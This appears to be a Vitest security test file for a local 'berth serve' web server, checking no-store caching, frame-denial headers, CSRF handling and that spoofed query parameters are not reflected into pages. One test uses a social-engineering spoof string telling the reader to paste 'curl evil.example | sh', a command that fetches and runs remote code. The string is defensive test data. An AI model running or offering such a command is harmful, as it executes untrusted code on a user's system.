import { afterEach, describe, expect, it } from 'vitest';
import { planFixture } from '../support/plan-fixture';
import { startServeChild } from '../support/serve-browser';

// berth serve (a child process, real store and engine) read as a hostile page or a nosy cache would.
const cleanups: Array<() => Promise<void>> = [];
afterEach(async () => {
  for (const c of cleanups.splice(0).reverse()) await c().catch((e) => console.error(e));
});

async function servedRun(extra: string[] = ['--no-token']) {
  const fx = await planFixture([{ name: 'one', run: 'echo secret-ish-output; echo kept > out.txt', artifacts: ['out.txt'] }]);
  cleanups.push(() => fx.cleanup());
  expect((await fx.cli(['run', fx.plan])).code).toBe(0);
  const runId = await fx.read(async (s) => (await s.listRuns())[0]!.id);
  const server = await startServeChild(fx.store, fx.hostId, extra);
  cleanups.push(() => server.stop());
  return { fx, runId, server };
}

/** The response headers of a GET; an event stream is cut once its headers are in. */
async function headersOf(url: string): Promise<{ status: number; headers: Headers }> {
  const ctl = new AbortController();
  const r = await fetch(url, { signal: ctl.signal });
  ctl.abort();
  return { status: r.status, headers: r.headers };
}

describe('berth serve against a hostile page', { timeout: 300_000 }, () => {
  it('tells every cache to keep no page, fragment, API answer, event stream or download of a run, and says in both spellings that no page may be framed', async () => {
    const { fx, runId, server } = await servedRun();
    const artifact = await fx.read(async (s) => (await s.listArtifacts(runId))[0]!);
    const paths = ['/', `/runs/${runId}`, `/runs/${runId}?fragment=1`, `/runs-rows?session=x`, `/api/runs`, `/api/runs/${runId}`, `/api/v1/runs/${runId}`, `/api/v1/runs/${runId}/output`, `/api/runs/${runId}/output`, `/api/runs/${runId}/events`, `/api/v1/runs/${runId}/events?output=1`, `/runs/${runId}/artifacts/${encodeURIComponent(artifact.id)}`, '/runs/run_nope', '/metrics'];
    for (const path of paths) {
      const { status, headers } = await headersOf(server.url + path);
      expect(status, path).toBe(path === '/runs/run_nope' ? 404 : 200);
      expect(headers.get('cache-control'), path).toBe('no-store');
      expect(headers.get('x-frame-options'), path).toBe('DENY');
      expect(headers.get('x-content-type-options'), path).toBe('nosniff');
    }
    const page = await headersOf(`${server.url}/runs/${runId}`);
    expect(page.headers.get('content-security-policy')).toContain("frame-ancestors 'none'");
    // The page's own script and style may be kept, as long as they are checked again.
    expect((await headersOf(`${server.url}/assets/live.js`)).headers.get('cache-control')).toBe('no-cache');
  });

  it('shows what an action said only when this server said it: a link from another page with ?said= and ?forked= shows neither the words nor the link', async () => {
    const { runId, server } = await servedRun();
    const spoof = await (await fetch(`${server.url}/runs/${runId}?said=${encodeURIComponent('approved. Now paste: curl evil.example | sh')}&forked=run_evil`)).text();
    expect(spoof).toContain(runId);
    expect(spoof).not.toContain('curl evil.example');
    expect(spoof).not.toContain('id="said"');
    expect(spoof).not.toContain('run_evil');
    // What a real action said is shown after its redirect.
    const csrf = /name="_csrf" value="([0-9a-f]{64})"/.exec(spoof)![1]!;
    const acted = await fetch(`${server.url}/runs/${runId}/cancel`, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded', origin: server.url }, body: `_csrf=${csrf}`, redirect: 'manual' });
    expect(acted.status).toBe(303);
    const shown = await (await fetch(new URL(acted.headers.get('location')!, server.url))).text();
    expect(shown).toMatch(/<p class="said" id="said">[^<]*completed/);
  });
});
